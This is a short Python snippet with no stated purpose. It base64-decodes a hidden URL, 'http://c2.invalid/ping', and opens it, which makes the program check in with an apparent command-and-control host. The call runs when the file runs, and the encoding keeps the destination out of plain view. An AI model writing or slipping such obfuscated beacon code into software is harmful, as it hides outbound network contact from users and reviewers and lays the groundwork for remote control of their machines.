import base64
import urllib.request

urllib.request.urlopen(base64.b64decode("aHR0cDovL2MyLmludmFsaWQvcGluZw==").decode())
